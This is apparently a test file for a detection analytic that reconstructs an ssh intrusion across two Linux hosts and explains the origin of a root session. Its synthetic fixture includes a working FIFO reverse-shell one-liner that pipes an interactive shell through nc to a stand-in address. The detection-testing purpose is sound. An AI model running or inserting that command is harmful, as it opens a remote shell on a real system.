import assert from 'node:assert/strict'
import { test } from 'node:test'
import { graphOf, tell } from '../graph/testing.ts'
import { unixChannelsAnalytic } from './unix-channels.ts'

const SSH = { logonType: undefined, service: 'sshd', port: 50_312 }
const ANNA = { name: 'anna', uid: '1000' }

/** Somebody on LNX1 comes to LNX2 by ssh, becomes root and bridges a shell over a FIFO. */
function intrusion() {
  const relay = 'sh -c "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f"'
  const there = tell('LNX2')
    .inbound(9, { pid: 700, image: '/usr/sbin/sshd' }, '10.0.0.9:50312', '10.0.0.5:22')
    .logon(10, { ...ANNA, logonId: '0x7' }, '10.0.0.9', SSH)
    .logon(60, { name: 'root' }, '', {
      outcome: 'explicit',
      service: 'sudo',
      logonType: undefined,
      address: undefined,
      by: { ...ANNA, logonId: '0x7' },
    })
    .started(
      70,
      { pid: 720, image: '/bin/sh', commandLine: relay },
      { pid: 719 },
      { user: { name: 'root', uid: '0', logonId: '0x7' } },
    )
    .observed(70, {
      channel: { kind: 'fifo', host: 'LNX2', name: '/tmp/f' },
      act: 'refer',
      actor: { pid: 720, image: '/bin/sh', commandLine: relay },
      account: { name: 'root', uid: '0', logonId: '0x7' },
    })
  const here = tell('LNX1')
    .started(5, { pid: 300, image: '/usr/bin/ssh', commandLine: 'ssh anna@10.0.0.5' }, { pid: 299, image: '/tmp/.x' })
    .outbound(9, { pid: 300, image: '/usr/bin/ssh' }, '10.0.0.9:50312', '10.0.0.5:22')
  return { there, here }
}

const found = (...hosts: Parameters<typeof graphOf>) =>
  unixChannelsAnalytic.find({ graph: graphOf(...hosts), rules: new Map() })

test('an act in a session that ssh opened from another host names who, from where, and the client there', () => {
  const { there, here } = intrusion()
  const [detection] = found(there, here)
  const texts = detection.reasons.filter((one) => one.support === 'before').map((one) => one.text)
  assert.deepEqual(texts, [
    'anna had become root by sudo in that session.',
    'anna came to LNX2 from 10.0.0.9 (sshd); it is that session’s process.',
    'On LNX1, ssh (pid 300) had connected there: ssh anna@10.0.0.5',
  ])
  assert.deepEqual(
    detection.others.map(({ host, role }) => `${host.name} ${role}`),
    ['LNX1 source'],
  )
  assert.ok(detection.processes.some((one) => one.key.startsWith('LNX1/300')))
  assert.deepEqual(
    detection.sessions.map((one) => one.logonId),
    ['0x7'],
  )
})

test('who came through a jump host is followed back over it', () => {
  const { there, here } = intrusion()
  here.logon(1, { name: 'anna', uid: '1000', logonId: '0x4' }, '192.0.2.44', { ...SSH, port: 40_001 })
  const ssh = here.facts[0]
  assert.ok(ssh.kind === 'process-started')
  ssh.user = { name: '1000', uid: '1000', logonId: '0x4' }
  const [detection] = found(there, here)
  assert.ok(detection.reasons.some((one) => one.text === 'anna came to LNX1 from 192.0.2.44 (sshd).'))
  assert.deepEqual(
    detection.sessions.map((one) => `${one.host.name} ${one.logonId}`),
    ['LNX2 0x7', 'LNX1 0x4'],
  )
})

test('a caller that was refused many times before says that the password was guessed', () => {
  const { there } = intrusion()
  for (let at = 0; at < 9; at++)
    there.logon(at - 60, { name: `user${at}` }, '10.0.0.9', { ...SSH, outcome: 'failed', port: 40_000 + at })
  const [detection] = found(there)
  assert.ok(detection.reasons.some((one) => one.text.includes('had been refused 9 times')))
  assert.ok(detection.techniques.some((one) => one.id === 'T1110'))
})

test('a session of the same machine, and one that no logon tells of, say nothing', () => {
  const { there } = intrusion()
  there.facts = there.facts.filter((fact) => fact.kind !== 'logon')
  assert.ok(!found(there)[0].reasons.some((one) => one.text.includes('came to')))
})
